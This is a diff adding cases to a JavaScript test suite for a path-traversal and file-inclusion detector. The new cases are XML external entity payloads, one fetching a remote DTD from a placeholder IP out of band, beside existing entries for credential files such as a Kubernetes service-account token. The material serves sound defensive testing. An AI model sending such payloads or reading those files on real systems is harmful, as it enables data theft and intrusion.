@@ -166,6 +166,9 @@ describe('path traversal', () => {
     assert.equal(detectTraversal(arg('/proc/1/environ'), '/'), 'file inclusion target proc/1/environ');
     assert.equal(detectTraversal(arg('/var/run/secrets/kubernetes.io/serviceaccount/token'), '/'), 'file inclusion target serviceaccount/token');
     assert.equal(detectTraversal(arg('/etc/mysql/my.cnf'), '/'), 'file inclusion target etc/mysql/my.cnf');
+    // XML external entities read from a URL (out of band, with a parameter entity).
+    assert.equal(detectTraversal(arg('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]><r/>'), '/'), 'XML external entity');
+    assert.equal(detectTraversal(arg('<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "ftp://198.51.100.7/a">]><r>&x;</r>'), '/'), 'XML external entity');
   });
 
   it('lets relative links and ordinary paths through', () => {
@@ -173,6 +176,8 @@ describe('path traversal', () => {
     assert.equal(detectTraversal(arg('v1.2.3/notes..txt'), '/'), null);
     assert.equal(detectTraversal(arg('https://cdn.example//assets/./app.js'), '/'), null);
     assert.equal(detectTraversal(arg('/api/proc/1/tasks'), '/'), null);
+    assert.equal(detectTraversal(arg('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'), '/'), null);
+    assert.equal(detectTraversal(arg('<!DOCTYPE r [<!ENTITY copy "(c) 2026">]><r>&copy;</r>'), '/'), null);
     assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/static/../img/a.png', flags: HttpFlag.DOT_SEGMENTS }, '/img/a.png'), null);
   });
 
